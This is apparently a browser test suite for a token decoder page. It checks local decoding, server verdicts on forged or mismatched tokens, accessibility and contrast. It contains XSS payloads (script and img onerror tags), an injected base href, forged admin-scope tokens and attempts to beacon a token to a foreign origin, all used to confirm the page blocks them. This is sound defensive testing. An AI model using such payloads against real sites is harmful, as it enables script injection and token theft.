// The decoder page, as a person uses it and as an attacker would like to.
import assert from 'node:assert/strict';
import path from 'node:path';
import { contrast } from './contrast.mjs';
import { goodToken, unsigned, withClaims } from './token.mjs';

const ATTACK = '<img src=x onerror="globalThis.pwned = true"><script>globalThis.pwned = true</script>';

async function open({ page, environment }) {
  const response = await page.goto(`${environment.BASE_URL}/decoder`);
  assert.equal(response.status(), 200);
  // Once the script runs it says what it has decoded: nothing yet.
  await page.getByText('Header and claims appear here.').waitFor();
}

const tokenField = (page) => page.getByLabel('Paste an access token');
const status = (page) => page.getByRole('status');
const check = (page, name) => page.getByRole('list', { name: 'Checks' }).locator('li').filter({ has: page.locator('.name', { hasText: new RegExp(`^${name}$`) }) });

async function ask(page) {
  await page.getByRole('button', { name: 'Ask this server' }).click();
  await page.getByRole('list', { name: 'Checks' }).waitFor();
}

const questions = (requests) => requests.filter((request) => request.method() === 'POST');

export const TESTS = {
  'a token is decoded in the page, and nothing is sent': async (setting) => {
    const { page, environment, requests } = setting;
    const token = await goodToken(environment);
    await open(setting);
    const before = requests.length;
    await tokenField(page).fill(`Authorization: Bearer ${token}\n`);
    const claims = page.locator('#claims');
    await claims.getByText(environment.ROOT_ISSUER, { exact: true }).waitFor();
    await claims.getByText('For which API it is. Compared byte for byte.').waitFor();
    // Local time, and how far away: ten minutes, or one second less.
    assert.match(await claims.locator('.when').first().textContent(), /\d{4}, \d{2}:\d{2}:\d{2}.* · /);
    assert.match(await claims.locator('div', { has: page.locator('dt', { hasText: /^exp$/ }) }).last().locator('.when').textContent(), / · in (9|10) minutes$/);
    assert.equal(await page.locator('#standing').textContent(), 'Not verified. Anyone can write such claims; nobody has checked the signature yet.');
    assert.equal(requests.length, before, 'typing sends something');
    await page.getByRole('button', { name: 'Clear' }).click();
    assert.equal(await page.locator('#claims-part').isVisible(), false);
  },

  'the verdict is the server\'s, check by check, and the token goes into the body alone': async (setting) => {
    const { page, environment, requests } = setting;
    const token = await goodToken(environment);
    await open(setting);
    await tokenField(page).fill(token);
    await page.getByLabel('API').fill(environment.AUDIENCE);
    await page.getByLabel('Scopes it needs').fill(environment.SCOPE);
    await ask(page);
    await status(page).getByText('Accepted', { exact: true }).waitFor();
    await check(page, 'signature').getByRole('img', { name: 'passed' }).waitFor();
    await check(page, 'revocation').getByRole('img', { name: 'passed' }).waitFor();
    assert.equal(await page.locator('#standing').textContent(), 'Verified: the issuer signed these claims.');

    await page.getByLabel('API').fill(`${environment.AUDIENCE}/`);
    await page.getByLabel('API').press('Enter');
    await status(page).getByText('Refused · CS-1204').waitFor();
    await check(page, 'audience').getByText('the two differ by a slash at the end alone').waitFor();
    assert.equal(await page.getByRole('link', { name: 'What this code means' }).getAttribute('href'), '/errors/CS-1204');

    const asked = questions(requests);
    assert.equal(asked.length, 2);
    for (const request of requests) {
      assert.ok(request.url().startsWith(`${environment.BASE_URL}/`), request.url());
      assert.ok(!request.url().includes(token.slice(0, 20)), 'the token is in a URL');
      assert.equal(request.headers().referer ?? '', '');
    }
    assert.equal(asked[0].postDataJSON().token, token);
    assert.equal(new URL(page.url()).search + new URL(page.url()).hash, '');
    const kept = await page.evaluate(() => localStorage.length + sessionStorage.length + document.cookie.length);
    assert.equal(kept, 0, 'the page keeps something');
  },

  'claims of a token whose signature failed are marked as such': async (setting) => {
    const { page, environment } = setting;
    const forged = withClaims(await goodToken(environment), { scope: 'admin:everything', client_id: 'somebody-else' });
    await open(setting);
    await tokenField(page).fill(forged);
    const part = page.locator('#claims-part');
    assert.match(await part.getAttribute('class'), /doubtful/);
    await ask(page);
    await status(page).getByText('Refused · CS-1014').waitFor();
    await page.getByText('The signature failed. Anyone may have written these claims: believe none of them.').waitFor();
    assert.match(await part.getAttribute('class'), /refuted/);
    // What the server says holds no claim.
    const said = await page.locator('.verdict').textContent();
    assert.ok(!said.includes('admin:everything') && !said.includes('somebody-else'), said);
    await check(page, 'audience').getByRole('img', { name: 'not judged' }).waitFor();
    // A change of the text takes the verdict away.
    await tokenField(page).press('End');
    await tokenField(page).pressSequentially('A');
    await status(page).getByText('Nothing was asked yet.').waitFor();
    assert.match(await part.getAttribute('class'), /doubtful/);
  },

  'a verdict is gone once another API or scope is named': async (setting) => {
    const { page, environment } = setting;
    const token = await goodToken(environment);
    await open(setting);
    await tokenField(page).fill(token);
    for (const [label, text] of [['API', `${environment.AUDIENCE}/`], ['Scopes it needs', 'wipe:everything']]) {
      await page.getByLabel('API').fill(environment.AUDIENCE);
      await page.getByLabel('Scopes it needs').fill(environment.SCOPE);
      await ask(page);
      await status(page).getByText('Accepted', { exact: true }).waitFor();
      await page.getByLabel(label).fill(text);
      await status(page).getByText('Nothing was asked yet.').waitFor();
      assert.equal(await page.locator('#standing').textContent(), 'Not verified. Anyone can write such claims; nobody has checked the signature yet.');
    }
  },

  'what a token holds stays text': async (setting) => {
    const { page, requests } = setting;
    await open(setting);
    const token = unsigned({ alg: 'RS256', typ: ATTACK, kid: ATTACK, [ATTACK]: 1 }, { sub: ATTACK, [ATTACK]: ATTACK, aud: [ATTACK], __proto__x: 1, exp: 1e300 });
    await tokenField(page).fill(token);
    await page.locator('#claims').getByText(ATTACK, { exact: true }).first().waitFor();
    await ask(page);
    await check(page, 'type').getByText(ATTACK).waitFor();
    assert.equal(await page.locator('main img, main script, main [onerror]').count(), 0);
    assert.equal(await page.evaluate(() => globalThis.pwned), undefined);
    assert.equal(requests.filter((request) => request.url().endsWith('/x')).length, 0);
  },

  // As if the server itself had put a token's text into the page.
  'an injected inline script does not run': async (setting) => {
    const { page, context } = setting;
    await context.addInitScript(() => {
      globalThis.blocked = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => globalThis.blocked.push(effectiveDirective));
    });
    await page.route('**/decoder', async (route) => {
      const response = await route.fetch();
      const injected = `<script>globalThis.injected = true</script><style>body { display: none }</style>
        <img src="/decoder/no-such-image" alt="" onerror="globalThis.injected = true"><base href="https://example.com/"></body>`;
      await route.fulfill({ response, body: (await response.text()).replace('</body>', injected) });
    });
    await open(setting);
    await page.waitForFunction(() => globalThis.blocked.includes('script-src-attr'));
    const { injected, blocked, display } = await page.evaluate(() => ({
      injected: globalThis.injected,
      blocked: globalThis.blocked,
      display: getComputedStyle(document.body).display,
    }));
    assert.equal(injected, undefined);
    assert.notEqual(display, 'none');
    for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'base-uri']) {
      assert.ok(blocked.includes(directive), `${directive} of ${blocked}`);
    }
  },

  'no text becomes HTML or a script': async (setting) => {
    const { page } = setting;
    await open(setting);
    const outcome = await page.evaluate(async () => {
      const refused = (action) => {
        try {
          action();
          return 'taken';
        } catch (error) {
          return error.name;
        }
      };
      // What the test itself runs may evaluate texts; what the page runs later may not.
      const evaluated = await new Promise((resolve) => setTimeout(() => resolve(refused(() => new Function('return 1')())), 0));
      const html = refused(() => document.body.insertAdjacentHTML('beforeend', '<p>text</p>'));
      const inner = refused(() => (document.body.innerHTML = 'text'));
      const script = document.createElement('script');
      const source = refused(() => (script.src = '/decoder/page.js'));
      return { evaluated, html, inner, source };
    });
    assert.deepEqual(outcome, { evaluated: 'EvalError', html: 'TypeError', inner: 'TypeError', source: 'TypeError' });
  },

  'nothing goes to another origin': async (setting) => {
    const { page, stranger, environment } = setting;
    await open(setting);
    const violated = await page.evaluate(async (origin) => {
      const directives = new Set();
      const until = (wanted) => new Promise((resolve, reject) => {
        const look = () => wanted.every((directive) => directives.has(directive)) && resolve();
        document.addEventListener('securitypolicyviolation', look);
        setTimeout(() => reject(new Error(`${wanted}: only ${[...directives]}`)), 20_000);
        look();
      });
      document.addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));
      fetch(`${origin}/fetch`).catch(() => {});
      navigator.sendBeacon(`${origin}/beacon`, 'token');
      for (const name of ['script', 'img', 'iframe']) {
        const made = document.createElement(name);
        try {
          made.setAttribute('src', `${origin}/${name}`);
          document.body.append(made);
        } catch (error) {
          directives.add(error.name);
        }
      }
      await until(['connect-src', 'img-src', 'frame-src']);
      // Last: whoever leaves a page stops what it loads.
      const form = document.createElement('form');
      form.action = `${origin}/form`;
      document.body.append(form);
      form.submit();
      await until(['form-action']);
      return [...directives];
    }, stranger.origin);
    // The source of a script is no text at all.
    assert.ok(violated.includes('TypeError'), `${violated}`);
    assert.equal(page.url(), `${environment.BASE_URL}/decoder`);
    assert.deepEqual(stranger.asked, []);
  },

  'no other site may frame it': async (setting) => {
    const { page, environment, stranger } = setting;
    await page.goto(`${stranger.origin}/frame`);
    const framed = await page.evaluate(async (url) => {
      const frame = document.createElement('iframe');
      frame.src = url;
      document.documentElement.append(frame);
      await new Promise((resolve) => (frame.onload = resolve));
      return frame.contentDocument;
    }, `${environment.BASE_URL}/decoder`);
    assert.equal(framed, null);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    assert.ok(!frame.url().startsWith(environment.BASE_URL), frame.url());
    stranger.asked.length = 0;
  },

  'the keyboard does everything, and everything has a name': async (setting) => {
    const { page, environment } = setting;
    const token = await goodToken(environment);
    await open(setting);
    const focused = () => page.evaluate(() => document.activeElement.id);
    await page.keyboard.press('Tab');
    assert.equal(await focused(), 'token');
    await page.keyboard.insertText(token);
    const order = [];
    for (let step = 0; step < 4; step += 1) {
      await page.keyboard.press('Tab');
      order.push(await focused());
    }
    assert.deepEqual(order, ['api', 'need', 'check', 'clear']);
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
    assert.equal(outline, 'solid', 'the focus is not shown');
    await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Space');
    await status(page).getByText('Nothing wrong so far').waitFor();
    await tokenField(page).focus();
    await page.keyboard.press('Control+Enter');
    await status(page).getByText('Nothing wrong so far').waitFor();
    for (const name of ['Token', 'Verdict', 'What the token says']) await page.getByRole('region', { name, exact: true }).waitFor();
    const nameless = await page.evaluate(() => [...document.querySelectorAll('input, textarea')].filter((field) => field.labels.length !== 1).length);
    assert.equal(nameless, 0);
    assert.equal(await page.locator('html').getAttribute('lang'), 'en');
  },

  'it is readable wide and narrow, light and dark': async (setting) => {
    const { page, environment, screenshots } = setting;
    const token = await goodToken(environment);
    for (const [size, width, height] of [['wide', 1280, 1000], ['narrow', 360, 740]]) {
      for (const colorScheme of ['light', 'dark']) {
        await page.setViewportSize({ width, height });
        await page.emulateMedia({ colorScheme });
        await open(setting);
        await tokenField(page).fill(token);
        await page.getByLabel('API').fill(`${environment.AUDIENCE}/`);
        await ask(page);
        const shot = async (name) => screenshots && page.screenshot({ path: path.join(screenshots, `${name}-${size}-${colorScheme}.png`), fullPage: true });
        await shot('refused');
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        assert.equal(overflow, 0, `${size}: the page is wider than the window`);
        const texts = ['h1', '.top p', 'label', '.note', '.optional', '.primary', '.result', '.result a', '.good.mark', '.bad.mark', '.mark.none', '.detail', '.fix', 'dt', '.means', '.standing', 'h3'];
        for (const selector of texts) {
          const ratio = await contrast(page, selector);
          assert.ok(ratio >= 4.5, `${selector} in ${colorScheme}: ${ratio.toFixed(2)}`);
        }
        await tokenField(page).fill(withClaims(token, { scope: 'admin:everything' }));
        await ask(page);
        await shot('forged');
        assert.ok((await contrast(page, '.standing')) >= 4.5);
        await page.getByRole('button', { name: 'Clear' }).click();
        await shot('empty');
        assert.ok((await contrast(page, '.empty')) >= 4.5);
      }
    }
  },

  'the listener for metrics does not have it': async ({ environment }) => {
    const response = await fetch(new URL('/decoder', environment.METRICS_URL));
    assert.equal(response.status, 404);
  },
};
